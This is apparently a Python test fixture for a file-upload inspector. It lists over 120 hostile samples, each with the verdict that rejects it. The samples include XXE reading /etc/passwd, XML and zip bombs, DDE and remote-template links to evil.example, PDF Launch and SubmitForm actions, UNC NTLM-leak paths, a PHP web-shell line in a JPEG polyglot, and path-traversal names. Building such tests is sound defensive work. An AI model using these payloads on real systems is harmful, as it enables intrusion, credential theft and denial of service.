"""More than 120 hostile uploads, each with its verdict: the sentence that refuses it.

Made here, the same every time. `KEPT` ones are harmless in content and hostile in name alone.
"""

from __future__ import annotations

import zipfile
import zlib
from typing import NamedTuple

from issues.inspection.unfit import (
    ACTS,
    CARRIES,
    DAMAGED,
    LINKED,
    LOCKED,
    MACROS,
    OLD_OFFICE,
    OPAQUE,
    TOO_DENSE,
    TOO_LARGE,
    TOO_MANY_PARTS,
    TOO_MUCH,
    TWO_KINDS,
)
from tests.support.small_files import (
    CELLS,
    ODT,
    SLIDES,
    archive,
    chunk,
    jpeg,
    odf,
    office,
    packed,
    pdf,
    png,
    relation,
    segment,
    stream,
    webp,
)

# Verdicts whose sentence depends on the name and kind.
EMPTY, WRONG_KIND, NOT_OURS, BELIED, OVER, KEPT = "empty", "kind", "none", "belied", "over", "kept"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<html><script>alert(1)</script></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;&b;&b;</x>'
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
PROGRAM = b"MZ" + bytes(600)
ZIP = archive({"a.txt": "a"})
XLINK = 'xmlns:x="http://www.w3.org/1999/xlink"'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
PNG_START = b"\x89PNG\r\n\x1a\n"


class Hostile(NamedTuple):
    """A file that somebody sends, and what becomes of it."""

    name: str
    content: bytes
    verdict: object
    kept: str = ""


def types(word: str) -> bytes:
    return archive(
        {
            "[Content_Types].xml": f'<T><O ContentType="application/vnd.{word}+xml"/></T>',
            "word/document.xml": "<w/>",
        }
    )


def field(*runs: str) -> str:
    """A field of Word whose instruction is spread over runs."""
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    inner = "".join(f"<w:instrText>{run}</w:instrText>" for run in runs)
    return f"<w:r {W}>{begin}{inner}{end}</w:r>"


def twice() -> bytes:
    """Two members of one name, of which programs read different ones."""
    return office(word__a_dot_xml="<a/>", word__A_dot_xml="<b/>")


def locked() -> bytes:
    """An archive whose directory says that its members are encrypted."""
    content = bytearray(office())
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = content.find(mark)
        content[place + at] |= 1
    return bytes(content)


def hidden_between() -> bytes:
    """Bytes between two members, which the directory does not name; its places are put right."""
    whole = office()
    content = whole.replace(b"PK\x03\x04", b"@@@@", 1)
    second = content.find(b"PK\x03\x04")
    secret = b"rahasia" * 9
    made = bytearray(whole[:second] + secret + whole[second:])
    entry = made.rfind(b"PK\x01\x02")
    made[entry + 42 : entry + 46] = (second + len(secret)).to_bytes(4, "little")
    end = made.rfind(b"PK\x05\x06")
    moved = int.from_bytes(made[end + 16 : end + 20], "little") + len(secret)
    made[end + 16 : end + 20] = moved.to_bytes(4, "little")
    return bytes(made)


def broken_sum() -> bytes:
    content = bytearray(
        archive({"[Content_Types].xml": "<Types/>", "word/a.xml": "<w>isi</w>"}, zipfile.ZIP_STORED)
    )
    content[content.find(b"isi")] ^= 1
    return bytes(content)


DISGUISES = [
    Hostile("eicar.com", EICAR, NOT_OURS),
    Hostile("eicar.pdf", EICAR, BELIED),
    Hostile("eicar.docx", EICAR, BELIED),
    Hostile("gambar.svg", SVG, NOT_OURS),
    Hostile("gambar.png", SVG, BELIED),
    Hostile("gambar.png", HTML, BELIED),
    Hostile("halaman.html", HTML, NOT_OURS),
    Hostile("halaman.pdf", HTML, BELIED),
    Hostile("halaman.jpg", HTML, BELIED),
    Hostile("program.exe", PROGRAM, NOT_OURS),
    Hostile("program.pdf", PROGRAM, BELIED),
    Hostile("foto.jpg.exe", PROGRAM, NOT_OURS),
    Hostile("skrip.js", b"alert(1)", NOT_OURS),
    Hostile("skrip.pdf", b"#!/bin/sh\nid\n", BELIED),
    Hostile("surat.doc", OLE, OLD_OFFICE),
    Hostile("surat.docx", OLE, OLD_OFFICE),
    Hostile("laporan.pdf", png(), WRONG_KIND),
    Hostile("foto.png", pdf(), WRONG_KIND),
    Hostile("foto.jpg", png(), WRONG_KIND),
    Hostile("rekap.xlsx", office(), WRONG_KIND),
    Hostile("surat.docx", office(CELLS), WRONG_KIND),
    Hostile("surat.pdf", office(), WRONG_KIND),
    Hostile("gerak.gif", b"GIF89a" + bytes(40), NOT_OURS),
    Hostile("arsip.zip", ZIP, NOT_OURS),
    Hostile("arsip.docx", ZIP, BELIED),
    Hostile("arsip.pdf", b"Rar!\x1a\x07\x00" + bytes(40), BELIED),
    Hostile("arsip.xlsx", b"7z\xbc\xaf\x27\x1c" + bytes(40), BELIED),
    Hostile("pintasan.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(70), NOT_OURS),
    Hostile("pesan.pdf", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML, BELIED),
    Hostile("tanpa-akhiran", pdf(), WRONG_KIND),
]
INCOMPLETE = [
    Hostile("kosong.pdf", b"", EMPTY),
    Hostile("kosong.docx", b"", EMPTY),
    Hostile("potong.pdf", pdf()[:20], DAMAGED),
    Hostile("potong.docx", office()[:80], DAMAGED),
    Hostile("potong.png", png()[:-12], DAMAGED),
    Hostile("potong.jpg", jpeg()[:-2], DAMAGED),
    Hostile("potong.webp", webp()[:-4], DAMAGED),
    Hostile("kepala.pdf", b"%PDF-", DAMAGED),
    Hostile("kepala.png", PNG_START, DAMAGED),
    Hostile("kepala.zip", b"PK\x03\x04", DAMAGED),
    Hostile("jumlah.docx", broken_sum(), DAMAGED),
    Hostile("jumlah.png", png().replace(b"IDAT", b"IDAT", 1)[:-20] + b"\x00" * 20, DAMAGED),
    Hostile("kurang.png", png(data=b"\x00"), DAMAGED),
    Hostile("lebih.png", png(data=b"\x00" * 99), DAMAGED),
    Hostile("cacat.png", PNG_START + chunk(b"IHDR", bytes(13)) + chunk(b"IEND", b""), DAMAGED),
    Hostile("tanpa-citra.jpg", b"\xff\xd8" + segment(0xE0, b"JFIF\x00") + b"\xff\xd9", DAMAGED),
    Hostile("cacat.docx", office(word__b_dot_xml="<b><c></b>"), DAMAGED),
    Hostile("besar.pdf", pdf() + b" " * 40_000, OVER),
]
BOMBS = [
    Hostile("bom.docx", office(word__b_dot_xml=b"0" * 60_000_000), TOO_DENSE),
    Hostile("bom-gambar.docx", office(word__media__a_dot_png=b"0" * 60_000_000), TOO_DENSE),
    Hostile("kata.docx", office(word__b_dot_xml=b"<a b='" + b"0" * 1_600_000), DAMAGED),
    Hostile(
        "bom-banyak.docx", archive({f"word/{n}.xml": "" for n in range(5_001)}), TOO_MANY_PARTS
    ),
    Hostile("bom.odt", odf("0" * 60_000_000), TOO_DENSE),
    Hostile("bom-citra.png", png(30_000, 30_000, data=b"\x00" * 99), TOO_LARGE),
    Hostile("bom-citra.jpg", jpeg(60_000, 60_000), TOO_LARGE),
    Hostile("bom-citra.webp", webp(16_000, 16_000), TOO_LARGE),
    Hostile("bom-isi.png", png(3, 2, data=b"\x00" * 20_000_000), DAMAGED),
    Hostile("bom.pdf", pdf(packed(b"0" * 70_000_000)), TOO_MUCH),
    Hostile("bom-xml.docx", office(word__b_dot_xml=LAUGHS), DAMAGED),
    Hostile(
        "bom-bersarang.docx",
        office(word__embeddings__a_dot_docx=office(word__embeddings__b_dot_docx=office())),
        CARRIES,
    ),
]
IN_OFFICE = [
    Hostile("makro.docx", office(word__vbaProject_dot_bin=b"x"), MACROS),
    Hostile("makro.docx", types("ms-word.document.macroEnabled.main"), MACROS),
    Hostile("makro.xlsx", office(CELLS, xl__macrosheets__sheet1_dot_xml="<m/>"), MACROS),
    Hostile(
        "makro.pptx",
        office(SLIDES, ppt__slides__s_dot_xml='<a action="ppaction://program"/>'),
        MACROS,
    ),
    Hostile("makro.odt", odf(Basic__a="x"), MACROS),
    Hostile("makro.odt", odf("<s:script xmlns:s='o'>x</s:script>"), MACROS),
    Hostile("makro.odt", odf("<s:event-listener xmlns:s='o'/>"), MACROS),
    Hostile(
        "templat.docx",
        office(
            word___rels__settings_xml_dot_rels=relation(
                "attachedTemplate", "https://evil.example/a.dotm"
            )
        ),
        LINKED,
    ),
    Hostile(
        "gambar.docx",
        office(word___rels__document_dot_rels=relation("image", "https://evil.example/a.png")),
        LINKED,
    ),
    Hostile(
        "unc.docx",
        office(word___rels__document_dot_rels=relation("hyperlink", r"\\evil.example\a")),
        LINKED,
    ),
    Hostile(
        "skema.docx",
        office(word___rels__document_dot_rels=relation("hyperlink", "ms-msdt:/id x")),
        LINKED,
    ),
    Hostile(
        "ole.docx",
        office(word___rels__document_dot_rels=relation("oleObject", "https://evil.example/a")),
        LINKED,
    ),
    Hostile("tautan.xlsx", office(CELLS, xl__externalLinks__e_dot_xml="<ddeLink/>"), LINKED),
    Hostile("data.xlsx", office(CELLS, xl__connections_dot_xml="<c/>"), LINKED),
    Hostile("dde.docx", office(word__d_dot_xml=field("DDEAUTO c:\\\\x")), LINKED),
    Hostile("dde.docx", office(word__d_dot_xml=field(" DD", "E", " excel x")), LINKED),
    Hostile("dde.docx", office(word__d_dot_xml=f'<w:fldSimple {W} w:instr="DDE x"/>'), LINKED),
    Hostile(
        "dde.ods", odf("<o:dde-source xmlns:o='o'/>", ODT.replace("text", "spreadsheet")), LINKED
    ),
    Hostile("gambar.odt", odf(f'<i {XLINK} x:href="https://evil.example/a"/>'), LINKED),
    Hostile("berkas.odt", odf(f'<i {XLINK} x:href="../../etc/passwd"/>'), LINKED),
    Hostile("ole.docx", office(word__embeddings__oleObject1_dot_bin=OLE), CARRIES),
    Hostile(
        "ole.docx",
        office(
            word___rels__document_dot_rels=relation("oleObject", "embeddings/a.bin", outside=False)
        ),
        CARRIES,
    ),
    Hostile(
        "html.docx",
        office(word___rels__document_dot_rels=relation("aFChunk", "a.xml", outside=False)),
        CARRIES,
    ),
    Hostile("activex.docx", office(word__activeX__a_dot_xml="<a/>"), CARRIES),
    Hostile("program.docx", office(word__media__image1_dot_png=PROGRAM), CARRIES),
    Hostile("program.docx", office(word__media__a_dot_exe=b"x"), CARRIES),
    Hostile("program.odt", odf(Pictures__a=b"\x7fELF" + bytes(99)), CARRIES),
    Hostile("skrip.docx", office(word__media__a_dot_vbs=b"x"), CARRIES),
    Hostile("zip.docx", office(word__media__a_dot_png=ZIP), CARRIES),
    Hostile("pdf.xlsx", office(CELLS, xl__embeddings__a_dot_bin=pdf()), CARRIES),
    Hostile("lain.docx", office(word__embeddings__a_dot_xlsx=office()), CARRIES),
    Hostile("xxe.docx", office(word__b_dot_xml=XXE), DAMAGED),
    Hostile("xxe16.docx", office(word__b_dot_xml=XXE.encode("utf-16")), DAMAGED),
    Hostile("xxe.vml.docx", office(word__b_dot_vml=XXE), DAMAGED),
    Hostile("xxe.odt", odf(XXE), DAMAGED),
    Hostile("xxe.docx", office(word__b_dot_bin=XXE), DAMAGED),
    Hostile("keluar.docx", office(**{"__".join(("..", "..", "etc")): b"x"}), DAMAGED),
    Hostile("mutlak.docx", office(__etc__passwd=b"x"), DAMAGED),
    Hostile("kandar.docx", office(**{"C:\\x": b"x"}), DAMAGED),
    Hostile("kembar.docx", twice(), DAMAGED),
    Hostile("sandi.docx", locked(), LOCKED),
    Hostile("sandi.odt", odf(**{"META-INF__m.xml": "<m><encryption-data/></m>"}), LOCKED),
    Hostile(
        "cara.docx",
        archive({"[Content_Types].xml": "<T/>", "word/a.xml": "<a/>"}, zipfile.ZIP_BZIP2),
        DAMAGED,
    ),
]
# Objects in the clear, of which what is said before them says too little.
LAX = b"<< %s >>\nstream\n5 0 << /S /JavaScript >>\nendstream"
IN_PDF = [
    Hostile("js.pdf", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), ACTS),
    Hostile("js.pdf", pdf(b"<< /S /J#61vaScript /#4aS (x) >>"), ACTS),
    Hostile("js-elsewhere.pdf", pdf(b"<< /S /J#61vaScript /#4aS 5 0 R >>"), ACTS),
    Hostile("js.pdf", pdf(packed(b"5 0 << /S /JavaScript >>")), ACTS),
    Hostile("js.pdf", pdf(packed(b"5 0 << /JS (x) >>", b"/N 1 /First 4")), ACTS),
    Hostile("js.pdf", pdf(b"% stream\n<< /S /JavaScript >>\nendstream"), ACTS),
    Hostile("js.pdf", pdf(LAX % b"/Type /ObjStm /N 1 /First 4 /Length 0"), ACTS),
    Hostile("js.pdf", pdf(LAX % b"/Type /ObjStm /N 1 /First 4 /Length -9"), ACTS),
    Hostile("js.pdf", pdf(LAX % b"/Type /ObjStm /N 1 /First 9 0 R /Length 0"), OPAQUE),
    Hostile("js.pdf", pdf(LAX % b"/Type 8 0 R /N 1 /First 9 0 R /Length 0"), OPAQUE),
    Hostile("buka.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), ACTS),
    Hostile("kirim.pdf", pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"), ACTS),
    Hostile("ntlm.pdf", pdf(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\a) >>"), ACTS),
    Hostile("xfa.pdf", pdf(b"<< /XFA 5 0 R >>"), ACTS),
    Hostile("lampiran.pdf", pdf(stream(b"x", b"/Type /EmbeddedFile")), CARRIES),
    Hostile("sandi.pdf", pdf(trailer=b"/Encrypt 9 0 R "), LOCKED),
    Hostile(
        "lzw.pdf", pdf(stream(b"x", b"/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode")), OPAQUE
    ),
    Hostile(
        "rantai.pdf",
        pdf(
            stream(
                zlib.compress(b"x"),
                b"/Type /ObjStm /First 4 /Filter [/ASCIIHexDecode /FlateDecode]",
            )
        ),
        OPAQUE,
    ),
]
POLYGLOTS = [
    Hostile("pdfzip.pdf", pdf() + ZIP, TWO_KINDS),
    Hostile("htmlpdf.pdf", b"%PDF-1.4\n" + HTML + pdf()[8:], TWO_KINDS),
    Hostile("gifar.png", png() + ZIP, TWO_KINDS),
    Hostile("html.png", png() + HTML, TWO_KINDS),
    Hostile("html.jpg", jpeg(extra=segment(0xFE, HTML)), TWO_KINDS),
    Hostile("php.jpg", jpeg() + b"<?php system($_GET[0]); ?>", TWO_KINDS),
    Hostile("rar.jpg", jpeg() + b"Rar!\x1a\x07\x00" + bytes(20), TWO_KINDS),
    Hostile("zip.jpg", jpeg() + ZIP, TWO_KINDS),
    Hostile("pdf.jpg", jpeg(extra=segment(0xFE, pdf())), TWO_KINDS),
    Hostile("sisa.webp", webp() + b"x" * 9, TWO_KINDS),
    Hostile("sisa.docx", office() + b"x", TWO_KINDS),
    Hostile("sela.docx", hidden_between(), TWO_KINDS),
    Hostile(
        "pdf.docx",
        archive({"[Content_Types].xml": pdf(), "word/a.xml": "<a/>"}, zipfile.ZIP_STORED),
        TWO_KINDS,
    ),
]
NAMES = [
    Hostile("../../etc/rekap.pdf", pdf(), KEPT, "rekap.pdf"),
    Hostile("C:\\dokumen\\rekap.pdf", pdf(), KEPT, "rekap.pdf"),
    Hostile("re\x01ka\x7fp.pdf", pdf(), KEPT, "rekap.pdf"),
    Hostile("rekap\u202efdp.pdf", pdf(), KEPT, "rekapfdp.pdf"),
    Hostile("rekap\u2066\u200b.pdf", pdf(), KEPT, "rekap.pdf"),
    Hostile("CON.pdf", pdf(), KEPT, "_CON.pdf"),
    Hostile("nul.tar.pdf", pdf(), KEPT, "_nul.tar.pdf"),
    Hostile('re<ka>p:"|?*.pdf', pdf(), KEPT, "re ka p.pdf"),
    Hostile("x" * 300 + ".pdf", pdf(), KEPT, "x" * 196 + ".pdf"),
    Hostile("é" * 300 + ".pdf", pdf(), KEPT, "é" * 98 + ".pdf"),
    Hostile("=HYPERLINK(1).pdf", pdf(), KEPT, "=HYPERLINK(1).pdf"),
    Hostile("rekap.exe.pdf", pdf(), KEPT, "rekap.exe.pdf"),
    Hostile("rekap.pdf. .", pdf(), KEPT, "rekap.pdf"),
]
GROUPS = {
    "disguises": DISGUISES,
    "incomplete": INCOMPLETE,
    "bombs": BOMBS,
    "office": IN_OFFICE,
    "pdf": IN_PDF,
    "polyglots": POLYGLOTS,
    "names": NAMES,
}


def _full(piece: bytes, size: int = 24 * 1024 * 1024) -> bytes:
    return piece * (size // len(piece))


def workbooks() -> bytes:
    """A document of a hundred workbooks, each of which unpacks to 199 MB."""
    within = archive(
        {"[Content_Types].xml": "<T/>", CELLS: "<w/>", "xl/a.bin": bytes(199 * 1024 * 1024)}
    )
    return office(**{f"word__embeddings__a{n}_dot_xlsx": within for n in range(100)})


# Small or large, they would keep a careless inspection at work for many seconds.
SLOW = {
    "locks without end": lambda: pdf(
        b"<< /Filter /Standard /R 9 >>", _full(b"trailer\n<< /Size 1 /Encrypt 2 0 R >>\n")
    ),
    "brackets that do not close": lambda: pdf(
        b"<< /Type /ObjStm " + _full(b"/Filter[") + b">>\nstream\nx\nendstream"
    ),
    "object streams that unpack to much": lambda: pdf(*[packed(bytes(63 * 1024 * 1024))] * 100),
    "object streams that are not packed after one that is": lambda: pdf(
        packed(bytes(64 * 1024 * 1024 - 9)),
        stream(b"0 " * 9, b"/Type /ObjStm /First 4"),
        packed(b"<< /Type /Catalog >>"),
    ),
    "names without end": lambda: pdf(_full(b"/#4a")),
    "names of nothing": lambda: pdf(_full(b"/")),
    "texts without end": lambda: pdf(b"[" + _full(b"()") + b"]"),
    "objects without end": lambda: pdf(_full(b"obj(x)")),
    "segments of nothing": lambda: jpeg(extra=_full(b"\xff\xe0\x00\x02")),
    "chunks of nothing": lambda: png().replace(
        chunk(b"IEND", b""), _full(chunk(b"IDAT", b"")) + chunk(b"IEND", b"")
    ),
    "workbooks within": workbooks,
}
